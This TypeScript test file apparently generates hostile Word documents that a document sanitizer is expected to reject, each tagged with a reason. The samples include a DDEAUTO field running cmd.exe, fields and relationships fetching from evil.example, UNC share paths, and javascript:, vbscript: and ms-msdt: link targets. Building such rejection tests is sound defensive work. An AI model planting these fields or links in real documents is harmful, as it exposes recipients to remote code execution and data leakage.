import { entryAt } from '#workflows/names.ts'
import { brokenArchives } from './broken-archives.ts'
import type { Variant } from './checked.ts'
import { misusedDocuments } from './misused-links.ts'
import { type Link, type PackagePart, packageEntries, packageFile, strict } from './office-package.ts'
import { doubledDocuments } from './picture-parts.ts'
import {
	fieldWritings,
	hostileWordParts,
	hostileWordXml,
	namedByField,
	paragraph,
	run,
	said,
	wordDocument,
	wordPlaces,
} from './word-parts.ts'

const dde = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
const fields: [instruction: string, reason: string][] = [
	[dde, 'fetches'],
	['DDE Excel "C:\\a.xlsx" R1C1', 'fetches'],
	['INCLUDEPICTURE "https://evil.example/a.png" \\d', 'fetches'],
	['INCLUDETEXT "\\\\evil.example\\share\\a.docx"', 'fetches'],
	['INCLUDE "a.docx"', 'fetches'],
	['IMPORT "https://evil.example/a.png"', 'fetches'],
	['LINK Excel.Sheet.12 "https://evil.example/a.xlsx" Sheet1!R1C1 \\a', 'fetches'],
	['DATABASE \\d "C:\\a.mdb" \\c "DSN=a" \\s "select 1"', 'fetches'],
	['EMBED Package', 'fetches'],
	['CONTROL Forms.HTML:Image.1', 'fetches'],
	['MACROBUTTON Run here', 'fetches'],
	['AUTOTEXT evil', 'fetches'],
	['AUTOTEXTLIST "evil"', 'fetches'],
	['GLOSSARY evil', 'fetches'],
	['RD "https://evil.example/a.docx"', 'fetches'],
	['QUOTE "DDE"', 'fetches'],
	['PRINT 27', 'fetches'],
	['DATA "a.docx"', 'fetches'],
	['HYPERLINK "file:///c:/windows/system32/calc.exe"', 'badLink'],
	['HYPERLINK "\\\\evil.example\\share\\a.exe"', 'badLink'],
	['HYPERLINK \\o "https://un.org" "javascript:alert(1)"', 'badLink'],
	['HYPERLINK ms-msdt:/id', 'badLink'],
]
const places = Object.entries(wordPlaces)
const writings = Object.entries(fieldWritings)

/** Each notation in each place, and each instruction in one place and notation. */
const fieldVariants = [
	...places.flatMap(([place, put]) =>
		writings.map(
			([writing, write]): Variant => [`DDE ${writing} in ${place}`, packageFile(put(write(dde))), 'fetches'],
		),
	),
	...fields.map(([instruction, reason], at): Variant => {
		const [place, put] = entryAt(places, at % places.length)
		const [writing, write] = entryAt(writings, at % 5)
		return [`${instruction} ${writing} in ${place}`, packageFile(put(write(instruction))), reason]
	}),
	...places.map(
		([place, put]): Variant => [
			`a field named by another in ${place}`,
			packageFile(put(namedByField('AUTO cmd'))),
			'fetches',
		],
	),
	...places.map(
		([place, put]): Variant => [
			`DDE in ${place} of the strict standard`,
			packageFile(strict(put(fieldWritings['cut letter by letter']?.(dde) ?? ''))),
			'fetches',
		],
	),
]

const outside = 'https://evil.example/a'
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships/'
const links: [type: string, reason: string][] = [
	['attachedTemplate', 'linked'],
	['subDocument', 'linked'],
	['frame', 'linked'],
	['aFChunk', 'linked'],
	['oleObject', 'linked'],
	['package', 'linked'],
	['image', 'linked'],
	['video', 'linked'],
	['control', 'linked'],
	['settings', 'linked'],
	['externalLinkPath', 'linked'],
	['mailMergeSource', 'linked'],
	['transform', 'linked'],
	['hyperlinks', 'linked'],
	['hyperlink/', 'linked'],
	['x://hyperlink', 'linked'],
	[`${microsoft}attachedToolbars`, 'linked'],
	['http://schemas.openxmlformats.org/officeDocument/2006/Relationships/hyperlink', 'linked'],
]
const inside: [type: string, reason: string][] = [
	['attachedTemplate', 'linked'],
	['subDocument', 'linked'],
	['frame', 'linked'],
	['aFChunk', 'linked'],
	['oleObject', 'nested'],
	['package', 'nested'],
	['control', 'controls'],
	['video', 'nested'],
	['https://evil.example/relationships/custom', 'unknownPart'],
	[`${microsoft}vbaProject`, 'macros'],
	[`${microsoft}keyMapCustomizations`, 'macros'],
	[`${microsoft}ui/extensibility`, 'macros'],
	[`${microsoft}activeXControlBinary`, 'controls'],
	['http://schemas.microsoft.com/office/2011/relationships/webextension', 'controls'],
]
const withLink = (link: Link): [PackagePart, ...PackagePart[]] => [wordDocument(said('Text'), [link])]
const targets = [
	'file:///c:/a.exe',
	'\\\\evil.example\\a',
	'javascript:alert(1)',
	'ms-word:ofe|u|https://a',
	'a.exe',
]
const moreTargets = [
	'C:\\a.exe',
	'vbscript:a',
	'data:text/html,a',
	'search-ms:query=a',
	' JavaScript:a',
	'smb://a/b',
]

const linkVariants = [
	...links.flatMap(([type, reason]): Variant[] => {
		const parts = withLink({ type, target: outside, mode: 'External' })
		return [
			[`${type} from outside`, packageFile(parts), reason],
			[`${type} from outside, strict`, packageFile(strict(parts)), reason],
		]
	}),
	[
		'a link to a file in another spelling of outside',
		packageFile(withLink({ type: 'hyperlink', target: 'a.exe', mode: 'external' })),
		'damaged',
	],
	...inside.map(
		([type, reason]): Variant => [
			`${type} inside`,
			packageFile([...withLink({ type, target: 'a.xml' }), { name: 'word/a.xml', content: '<a/>' }]),
			reason,
		],
	),
	...[...targets, ...moreTargets].map(
		(target): Variant => [
			`a link to ${target}`,
			packageFile(withLink({ type: 'hyperlink', target, mode: 'External' })),
			'badLink',
		],
	),
	...['image', 'header', 'customXml'].map(
		(type): Variant => [
			`an address as ${type} that is said to be inside`,
			packageFile(withLink({ type, target: 'https://evil.example/a.png' })),
			'linked',
		],
	),
	[
		'a relationship of the package itself that leads outside',
		packageFile(withLink({ type: 'styles', target: 'styles.xml' }), [
			{ type: 'attachedTemplate', target: outside, mode: 'External' },
		]),
		'linked',
	],
	[
		'two main parts',
		packageFile(withLink({ type: 'styles', target: 'a.xml' }), [
			{ type: 'officeDocument', target: 'word/b.xml' },
		]),
		'contentDiffers',
	],
] satisfies Variant[]

const elements: [xml: string, reason: string][] = [
	['<w:altChunk r:id="rId1"/>', 'linked'],
	['<w:subDoc r:id="rId1"/>', 'linked'],
	['<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object>', 'nested'],
	['<w:object><o:OLEObject Type="Link" ProgID="htmlfile" UpdateMode="Always"/></w:object>', 'nested'],
	['<w:object><w:control r:id="rId1" w:name="a"/></w:object>', 'controls'],
	['<w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:rect href="file:///c:/a.exe"/></w:pict>', 'badLink'],
	['<wp:docPr><a:hlinkClick action="ppaction://program"/></wp:docPr>', 'controls'],
	['<w:ffData><w:entryMacro w:val="Evil"/></w:ffData>', 'macros'],
	['<w:fldChar x:fldCharType="end" w:fldCharType="begin" xmlns:x="urn:a"/>', 'unreadable'],
	['<wp15:webVideoPr xmlns:wp15="urn:a" embeddedHtml="&lt;iframe/&gt;"/>', 'linked'],
]
const elementVariants = elements.map(([xml, reason], at): Variant => {
	const [place, put] = entryAt(places, (at * 3) % places.length)
	return [`${xml} in ${place}`, packageFile(put(paragraph(run(xml)))), reason]
})

const entries = packageEntries([wordDocument(said('Text'))])

/** Rejected documents, each with its hidden content, place and notation. */
export const hostileDocuments: Variant[] = [
	...fieldVariants,
	...linkVariants,
	...elementVariants,
	...hostileWordParts,
	...hostileWordXml,
	...brokenArchives(entries, 'word/document.xml'),
	...misusedDocuments,
	...doubledDocuments,
]
